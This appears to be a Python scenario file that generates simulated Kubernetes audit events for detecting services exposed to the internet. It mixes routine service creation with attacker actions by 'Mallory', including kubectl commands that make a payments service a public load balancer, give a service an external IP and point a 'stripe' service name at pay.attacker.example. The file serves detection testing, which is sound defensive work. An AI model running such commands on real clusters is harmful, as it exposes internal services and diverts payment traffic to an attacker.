"""Services that are reached from outside."""

from recorder.objects import made
from recorder.people import BOB, DAVE, MALLORY, PIPELINE
from recorder.scenario import scenario
from recorder.stage import Stage


@scenario(
    title="Services are opened to the internet",
    use_case="network-security",
    techniques=["T1133"],
    detect="a service of type NodePort or LoadBalancer, with external addresses or an external name, made by a person",
)
def play(stage: Stage) -> None:
    """The pipeline makes a service of the ordinary kind and a load balancer that is internal to the network. Dave is
    refused a service. Bob opens the orders of staging on a port of every node, to try something. Mallory turns the
    ledger's neighbour into a public load balancer, gives a service of the shop an external address, and makes one that
    is another name for a host outside.
    """
    pipeline, bob, mallory = stage.play_as(PIPELINE), stage.play_as(BOB), stage.play_as(MALLORY)
    port = [{"port": 8080, "targetPort": 8080}]
    orders = {"selector": {"app": "orders"}, "ports": port}

    stage.at("09:04:20")
    pipeline.create(made("Service", "orders-metrics", "shop", spec=orders))
    internal = made("Service", "orders-internal", "shop", spec={**orders, "type": "LoadBalancer"})
    internal["metadata"]["annotations"] = {"service.beta.kubernetes.io/azure-load-balancer-internal": "true"}
    pipeline.create(internal)

    stage.at("09:11:00")
    stage.play_as(DAVE).kubectl("expose", "deployment", "web", "-n", "shop", "--name=web-out", fails=True)
    stage.at("09:18:36")
    bob.kubectl(
        "expose", "deployment", "orders", "-n", "staging", "--name=orders-try", "--port=8080", "--type=NodePort"
    )

    stage.at("09:29:51")
    public = '{"spec":{"type":"LoadBalancer"}}'
    mallory.kubectl("patch", "service", "payments-api", "-n", "payments", f"--patch={public}")
    stage.at("09:32:07")
    stolen = made("Service", "catalog-cache", "shop", spec={**orders, "externalIPs": ["203.0.113.151"]})
    mallory.kubectl("apply", "-f", "-", given=stolen)
    stage.at("09:34:40")
    mallory.kubectl("create", "service", "externalname", "stripe", "-n", "shop", "--external-name=pay.attacker.example")
